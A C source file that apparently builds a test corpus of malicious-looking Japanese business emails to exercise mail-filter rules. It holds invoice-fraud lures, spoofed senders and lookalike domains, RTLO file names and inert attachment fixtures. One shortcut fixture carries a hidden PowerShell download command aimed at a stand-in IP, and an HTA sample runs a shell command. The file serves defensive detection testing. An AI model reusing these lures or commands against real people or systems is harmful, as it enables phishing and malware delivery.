/* taiou-mail-corpus-malicious.c — malicious-shaped mail, one or more per mail rule
 *
 * Each mail is built around one indicator (its shape names the rule it exercises) and dressed
 * the way Emotet and its successors dressed theirs (IPA, JPCERT/CC): a reply to a stolen
 * conversation, an urgent invoice, a colleague's covering note, a partner's name on a hacked
 * server's address, often sent at night.  The "weapons" are the fixtures' inert look-alikes:
 * an MZ header with nothing behind it, OLE streams that merely name a VBA project, a shortcut
 * whose arguments name PowerShell.  Nothing here can run.
 */
#include "config.h"

#include <string.h>

#include "taiou-mail-corpus-private.h"

#define PICK_S(rand, array) ((array)[g_rand_int_range ((rand), 0, G_N_ELEMENTS (array))])

#define PASSWORD "Kx93pQ7w"

/* Who the mail claims to be, and from where it really comes.  None is one of our names on a
 * foreign domain (that is the display-name spoof's own mails) nor one of our domains. */
static const char * const disguises[][2] = {
  { "中村 誠", "m-nakamura@kaneda-sangyo.co.jp" },       /* the partner's own, hijacked account */
  { "中村 誠", "nakamura@mail.hacked-shop.example" },
  { "小林 由美", "kobayashi@vps-4412.cheap-host.example" },
  { "経理部", "keiri@smtp.compromised-clinic.example" },
  { "吉田 恵", "m-yoshida@hikari-print.co.jp" },
  { "Accounts Payable", "ap@invoice-mailer.example" },
};

static const char * const topics[] = {
  "請求書の件", "【至急】お支払いについて", "見積書送付", "Re: 打ち合わせの件", "RE: 発注書",
  "11月分請求書", "Invoice #4821 overdue", "会議資料",
};

/* A stolen conversation, quoted under the attacker's one line. */
static const char *quoted_conversation =
  "\n\n差出人: 山田 太郎 <t-yamada@ourcorp.co.jp>\n送信日時: 2026年10月2日 11:20\n"
  "件名: 打ち合わせの件\n\n中村様\n\nお世話になっております。\n来週の打ち合わせの件、承知いたしました。\n";

static const char * const lures[] = {
  "ご確認ください。\n",
  "お世話になっております。\n請求書を添付いたしますので、ご確認ください。\n",
  "添付ファイルをご確認のうえ、本日中にご対応ください。\n",
  "Please see the attached invoice.\n",
  "お疲れ様です。\n資料です。\n",
};

typedef struct
{
  GRand      *rand;
  const char *rule;
  const char *from_name;     /* nullable: a disguise is picked */
  const char *from_address;
  const char *lure;          /* nullable: one is picked */
  const char *body_extra;    /* nullable: appended to the lure */
  const char *html;          /* nullable: an HTML body beside the text */
  const char *file_name;     /* nullable: no attachment */
  const char *mime_type;
  GBytes     *file;
  const char *extra_headers; /* nullable */
} Weapon;

static GBytes *
build (const Weapon *weapon)
{
  GRand *rand = weapon->rand;
  const char * const *disguise = disguises[g_rand_int_range (rand, 0, G_N_ELEMENTS (disguises))];
  const char *topic = PICK_S (rand, topics);
  gboolean hijack = g_str_has_prefix (topic, "Re") || g_str_has_prefix (topic, "RE");
  g_autofree char *body = g_strconcat (weapon->lure != NULL ? weapon->lure : PICK_S (rand, lures),
                                       weapon->body_extra != NULL ? weapon->body_extra : "",
                                       hijack ? quoted_conversation : "", NULL);
  CorpusEncoding encoding = PICK_S (rand, ((const CorpusEncoding[]) {
    CORPUS_ISO_2022_JP, CORPUS_UTF8_B64, CORPUS_SHIFT_JIS, CORPUS_UTF8_QP }));
  g_autofree char *text = corpus_text_part ("plain", body, encoding);
  g_autofree char *html = weapon->html != NULL ? corpus_text_part ("html", weapon->html,
                                                                   CORPUS_UTF8_QP) : NULL;
  g_autofree char *alternative = html != NULL ? corpus_multipart ("alternative", text, html, NULL)
                                              : g_strdup (text);
  g_autofree char *file = NULL;
  g_autofree char *entity = NULL;
  CorpusHeaders headers = {
    weapon->from_address != NULL ? weapon->from_name : disguise[0],
    weapon->from_address != NULL ? weapon->from_address : disguise[1],
    "t-yamada@ourcorp.co.jp", topic, g_rand_int_range (rand, 2, 28),
    g_rand_boolean (rand) ? g_rand_int_range (rand, 0, 5) : g_rand_int_range (rand, 8, 20),
    g_rand_int_range (rand, 0, 60), weapon->extra_headers, encoding,
  };

  if (weapon->file != NULL)
    {
      file = corpus_file_part (weapon->file_name, weapon->mime_type, weapon->file,
                               (CorpusNameStyle) g_rand_int_range (rand, 0, 3));
      entity = corpus_multipart ("mixed", alternative, file, NULL);
    }
  else
    entity = g_strdup (alternative);
  return corpus_message (&headers, entity);
}

static void
add (GPtrArray    *corpus,
     const Weapon *weapon)
{
  corpus_add (corpus, TRUE, weapon->rule, "eml", build (weapon));
}

static void
add_senders (GPtrArray *corpus,
             GRand     *rand)
{
  static const char * const spoofed[][2] = {
    { "山田 太郎", "yamada.taro@mail.hacked-shop.example" },
    { "山田　太郎", "t-yamada.ourcorp@freemail.example" },
    { "佐藤花子", "sato@vps-4412.cheap-host.example" },
    { "株式会社アワ商事 経理部", "keiri@invoice-mailer.example" },
    { "営業部 山田 太郎", "t-yamada@smtp.compromised-clinic.example" },
  };
  static const char * const lookalikes[] = {
    "soumu@ourcorp-co.jp", "soumu@0urcorp.co.jp", "soumu@ourcrop.co.jp", "soumu@ourcorp.jp",
    "soumu@ourc0rp.com", "soumu@ourcorp.net",
  };
  g_autoptr(GBytes) pdf = corpus_pdf ("invoice");

  for (guint i = 0; i < 10; i++)
    {
      Weapon weapon = { rand, "mail.display-name-spoof", spoofed[i % 5][0], spoofed[i % 5][1],
                        .body_extra = i % 2 == 0 ? "" : "振込先が変更になりましたので、ご確認ください。\n" };

      if (i % 3 == 0)
        {
          weapon.file_name = "請求書.pdf";
          weapon.mime_type = "application/pdf";
          weapon.file = pdf;
        }
      add (corpus, &weapon);
    }
  for (guint i = 0; i < 6; i++)
    {
      const char *names[] = { "m-nakamura@kaneda-sangyo.co.jp", "keiri@minato-logi.co.jp",
                              "support@cloud-seikyu.example" };
      Weapon weapon = { rand, "mail.display-name-address", names[i % 3],
                        i % 2 == 0 ? "info@vps-4412.cheap-host.example" : "noreply@login-notice.example",
                        .body_extra = "下記より請求内容をご確認ください。\nhttps://login-notice.example/inv\n" };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < G_N_ELEMENTS (lookalikes); i++)
    {
      Weapon weapon = { rand, "mail.lookalike-domain", "総務部", lookalikes[i],
                        .body_extra = "社内規程が改定されました。添付をご確認ください。\n",
                        .file_name = "社内規程.pdf", .mime_type = "application/pdf", .file = pdf };

      add (corpus, &weapon);
    }
}

static void
add_office (GPtrArray *corpus,
            GRand     *rand)
{
  const char * const vba[] = { "Macros/VBA/dir", "Macros/VBA/_VBA_PROJECT", "Macros/VBA/ThisDocument",
                               "Macros/PROJECT", "WordDocument", "1Table", NULL };
  const char * const summary[] = { "\005SummaryInformation", NULL };
  g_autoptr(GBytes) doc = taiou_test_ole_new (vba, NULL);
  g_autoptr(GBytes) docm = taiou_test_ooxml_new (TRUE, FALSE);
  g_autoptr(GBytes) sheet = taiou_test_biff_workbook ("Macro1", 1, 2);
  g_autoptr(GBytes) xls = taiou_test_ole_new (summary, sheet);
  g_autoptr(GBytes) zipped_doc = taiou_test_zip_of ("請求書_1124.doc", doc);
  TaiouTestMember member = { "請求書_1124.doc", doc };
  g_autoptr(GBytes) encrypted = taiou_test_zip_new (&member, 1, "zipcrypt", PASSWORD);
  g_autoptr(GBytes) aes = taiou_test_zip_new (&member, 1, "aes256", PASSWORD);

  for (guint i = 0; i < 8; i++)
    {
      Weapon weapon = { rand, "attachment.macro-ole",
                        .file_name = i % 2 == 0 ? "請求書_1124.doc" : "請求書_1124.zip",
                        .mime_type = i % 2 == 0 ? "application/msword" : "application/zip",
                        .file = i % 2 == 0 ? doc : zipped_doc };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 5; i++)
    {
      Weapon weapon = { rand, "attachment.macro-ooxml", .file_name = i % 2 == 0 ? "見積書.xlsm" : "発注書.docm",
                        .mime_type = "application/vnd.ms-excel.sheet.macroEnabled.12", .file = docm };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 4; i++)
    {
      Weapon weapon = { rand, "attachment.xlm-macrosheet", .file_name = "支払明細.xls",
                        .mime_type = "application/vnd.ms-excel", .file = xls };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 8; i++)
    {
      Weapon weapon = { rand, "attachment.zip-password-in-body",
                        .body_extra = i % 2 == 0 ? "\n解凍パスワード: " PASSWORD "\n"
                                                 : "\nパスワードは " PASSWORD " です。\n",
                        .file_name = "請求書.zip", .mime_type = "application/zip",
                        .file = i % 2 == 0 ? encrypted : aes };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 4; i++)
    {
      Weapon weapon = { rand, "attachment.encrypted-zip",
                        .body_extra = "\nパスワードは別途お送りします。\n",
                        .file_name = "見積書.zip", .mime_type = "application/zip", .file = aes };

      add (corpus, &weapon);
    }
}

static void
add_programs (GPtrArray *corpus,
              GRand     *rand)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  g_autoptr(GBytes) lnk = taiou_test_lnk_new ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                              "-w hidden -c \"iwr http://203.0.113.9/a\"");
  g_autoptr(GBytes) zipped_lnk = taiou_test_zip_of ("請求書.pdf.lnk", lnk);
  g_autoptr(GBytes) zipped_pe = taiou_test_zip_of ("invoice.exe", pe);
  TaiouTestMember iso_member = { "請求書.exe", pe };
  g_autoptr(GBytes) iso = taiou_test_iso_new (&iso_member, 1);
  g_autoptr(GBytes) hta = taiou_test_bytes_printf ("<html><script language=\"VBScript\">"
                                                   "CreateObject(\"WScript.Shell\").Run \"calc\""
                                                   "</script></html>");
  g_autoptr(GBytes) one = taiou_test_onenote_new (pe);
  g_autoptr(GBytes) one_hta = taiou_test_onenote_new (hta);
  g_autoptr(GBytes) js = taiou_test_bytes_printf ("var s = new ActiveXObject(\"WScript.Shell\");\n");
  static const char * const double_names[] = { "請求書.pdf.exe", "見積書.xlsx.scr",
                                               "議事録.docx.exe", "invoice.pdf.exe" };
  static const char * const script_names[][2] = {
    { "請求書.js", "application/javascript" }, { "invoice.vbs", "text/vbscript" },
    { "案内.hta", "application/hta" }, { "支払.wsf", "text/xml" }, { "明細.js", "text/plain" },
  };

  for (guint i = 0; i < 8; i++)
    {
      Weapon weapon = { rand, "attachment.lnk", .file_name = i % 2 == 0 ? "請求書.lnk" : "請求書.zip",
                        .mime_type = "application/octet-stream",
                        .file = i % 2 == 0 ? lnk : zipped_lnk };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 5; i++)
    {
      Weapon weapon = { rand, "attachment.disk-image", .file_name = i % 2 == 0 ? "請求書.iso" : "書類.img",
                        .mime_type = "application/x-iso9660-image", .file = iso };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 5; i++)
    {
      Weapon weapon = { rand, "attachment.onenote-embedded", .file_name = "請求書.one",
                        .mime_type = "application/onenote", .file = i % 2 == 0 ? one : one_hta };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 6; i++)
    {
      Weapon weapon = { rand, "attachment.executable",
                        .file_name = i % 3 == 0 ? "update.exe" : i % 3 == 1 ? "invoice.zip" : "書類.scr",
                        .mime_type = "application/octet-stream",
                        .file = i % 3 == 1 ? zipped_pe : pe };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 6; i++)
    {
      Weapon weapon = { rand, "attachment.double-extension",
                        .file_name = double_names[i % G_N_ELEMENTS (double_names)],
                        .mime_type = "application/octet-stream", .file = pe };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 3; i++)
    {
      /* U+202E turns "請求書_\u202Efdp.exe" into 「請求書_exe.pdf」 on screen. */
      Weapon weapon = { rand, "attachment.rtlo",
                        .file_name = i == 0 ? "請求書_\u202Efdp.exe" : i == 1 ? "invoice_\u202Egpj.scr"
                                                                              : "見積\u202Exslx.exe",
                        .mime_type = "application/octet-stream", .file = pe };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < G_N_ELEMENTS (script_names); i++)
    {
      Weapon weapon = { rand, "attachment.script", .file_name = script_names[i][0],
                        .mime_type = script_names[i][1], .file = i == 2 ? hta : js };

      add (corpus, &weapon);
    }
}

static void
add_links (GPtrArray *corpus,
           GRand     *rand)
{
  static const char * const mismatches[][2] = {
    { "https://www.ourcorp.co.jp/invoice", "http://evil-site.example/inv/ourcorp" },
    { "https://www.kaneda-sangyo.co.jp/login", "https://click.example-mail.net/?u=https%3A%2F%2Fkaneda-sangyo.login-check.example%2F" },
    { "www.cloud-seikyu.example", "https://cloud-seikyu.example.account-verify.example/" },
    { "https://www.minato-logi.co.jp/tracking", "https://t.news-delivery.example/c/1a2b?url=https%3A%2F%2Fminato-logi-tracking.example%2F" },
    { "https://login.microsoftonline.com/", "https://microsoftonline.login.secure-auth.example/" },
  };
  static const char * const ip_links[] = {
    "http://203.0.113.45/invoice/", "http://198.51.100.7:8080/doc.php", "https://[2001:db8::7]/a",
  };
  static const char * const downloads[] = {
    "https://storage.example-cdn.net/files/%E8%AB%8B%E6%B1%82%E6%9B%B8.zip",
    "https://share.example-cdn.net/d/invoice_1124.iso", "http://files.example-cdn.net/doc/note.one",
  };

  for (guint i = 0; i < 10; i++)
    {
      const char * const *pair = mismatches[i % G_N_ELEMENTS (mismatches)];
      g_autofree char *html = g_strdup_printf ("<html><body><p>ご請求内容は下記よりご確認ください。</p>"
                                               "<p><a href=\"%s\">%s</a></p></body></html>",
                                               pair[1], pair[0]);
      Weapon weapon = { rand, "mail.link-mismatch", .lure = "ご請求内容は下記よりご確認ください。\n",
                        .html = html };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 6; i++)
    {
      g_autofree char *extra = g_strdup_printf ("\n%s\n", ip_links[i % G_N_ELEMENTS (ip_links)]);
      Weapon weapon = { rand, "mail.link-ip-host", .body_extra = extra };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 6; i++)
    {
      g_autofree char *extra = g_strdup_printf ("\nダウンロード: %s\n", downloads[i % G_N_ELEMENTS (downloads)]);
      Weapon weapon = { rand, "mail.link-download", .body_extra = extra };

      add (corpus, &weapon);
    }
}

static void
add_iocs_and_tricks (GPtrArray *corpus,
                     GRand     *rand)
{
  g_autoptr(GBytes) payload = corpus_ioc_payload ();
  g_autoptr(GBytes) plain_doc = taiou_test_bytes_printf ("Rechnung");
  static const char truncated_zip[] = "PK\003\004\024\000\011\000broken";
  g_autoptr(GBytes) broken = g_bytes_new_static (truncated_zip, sizeof truncated_zip - 1);

  for (guint i = 0; i < 3; i++)
    {
      Weapon hash = { rand, "ioc.sha256", .file_name = "資料.pdf", .mime_type = "application/pdf",
                      .file = payload };
      Weapon url = { rand, "ioc.url", .body_extra = "\nhttp://drop.bad-cdn.example/inv/\n" };
      Weapon domain = { rand, "ioc.domain",
                        .body_extra = "\nhttps://c2-relay.bad-host.example/portal/login\n" };
      Weapon name = { rand, "ioc.filename", .file_name = "Rechnung_202611.doc",
                      .mime_type = "application/msword", .file = plain_doc };

      add (corpus, &hash);
      add (corpus, &url);
      add (corpus, &domain);
      add (corpus, &name);
    }
  for (guint i = 0; i < 2; i++)
    {
      Weapon weapon = { rand, "attachment.unreadable", .file_name = "請求書.zip",
                        .mime_type = "application/zip", .file = broken };

      add (corpus, &weapon);
    }
  for (guint i = 0; i < 2; i++)
    {
      /* Nested deeper than the check reads, hiding what is inside. */
      g_autofree char *entity = corpus_text_part ("plain", "ご確認ください。\n", CORPUS_ISO_2022_JP);
      CorpusHeaders headers = { "中村 誠", "nakamura@mail.hacked-shop.example", "t-yamada@ourcorp.co.jp",
                                "請求書の件", 10 + (int) i, 2, 10, NULL, CORPUS_ISO_2022_JP };

      for (guint depth = 0; depth < 8; depth++)
        {
          char *outer = corpus_multipart ("mixed", entity, NULL);

          g_free (entity);
          entity = outer;
        }
      corpus_add (corpus, TRUE, "mail.too-complex", "eml", corpus_message (&headers, entity));
    }
}

void
corpus_add_malicious (GPtrArray *corpus)
{
  g_autoptr(GRand) rand = g_rand_new_with_seed (666);

  add_senders (corpus, rand);
  add_office (corpus, rand);
  add_programs (corpus, rand);
  add_links (corpus, rand);
  add_iocs_and_tricks (corpus, rand);
}
